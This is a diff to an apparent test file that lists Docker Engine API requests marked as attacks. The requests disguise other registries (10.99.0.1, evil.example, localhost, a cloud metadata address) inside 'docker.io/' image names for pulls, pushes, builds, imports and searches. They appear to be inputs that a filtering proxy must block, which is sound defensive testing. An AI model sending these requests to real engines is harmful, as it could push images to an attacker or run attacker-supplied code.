@@ -35,6 +35,26 @@ export const engineRequests: readonly Attack[] = [
     ['a pull from a host of one letter', 'POST /v1.41/images/create?fromImage=e/x:1&tag=2'],
     ['a pull with two names', 'POST /v1.41/images/create?fromImage=busybox:1&tag=2'],
     ['a pull that climbs', 'POST /v1.41/images/create?fromImage=docker.io/../../10.99.0.1/x&tag=1'],
+    ...['10.99.0.1', 'evil.example', 'localhost'].flatMap((host) => {
+      const name = `docker.io/${host}/x`;
+      return [
+        [
+          `a pull of ${name}, which engines call ${host}/x`,
+          `POST /v1.41/images/create?fromImage=${name}&tag=1`,
+        ],
+        [`a pull of index.${name}`, `POST /v1.41/images/create?fromImage=index.${name}&tag=1`],
+        [`a pull of all of ${name}`, `POST /v1.41/images/create?fromImage=${name}`],
+        [`a distribution of ${name}`, `GET /v1.41/distribution/${name}/json`],
+        [`a push of ${name}`, `POST /v1.41/images/${name}/push?tag=1`],
+        [`a search in ${name}`, `GET /v1.41/images/search?term=${name}`],
+        [`a search in index.${name}`, `GET /v1.41/images/search?term=index.${name}`],
+        [`the name ${name} for one's own`, `POST /v1.41/images/{my.image.name}/tag?repo=${name}&tag=1`],
+        [`an import as ${name}`, `POST /v1.41/images/create?fromSrc=-&repo=${name}&tag=1`],
+        [`a commit as ${name}`, `POST /v1.41/commit?container={my.stopped.id}&repo=${name}&tag=1`],
+        [`a build of ${name}`, `POST /v1.41/build?t=${name}:1`],
+      ];
+    }),
+    ['a search behind a search', 'GET /v1.41/images/search?term=docker.io/10.99.0.1:80/x'],
     ['a distribution elsewhere', 'GET /v1.41/distribution/10.99.0.1:80/x/json'],
     ['a distribution of a cloud', 'GET /v1.41/distribution/169.254.169.254/latest/json'],
     ['a push elsewhere', 'POST /v1.41/images/10.99.0.1:80/x/push?tag=1'],
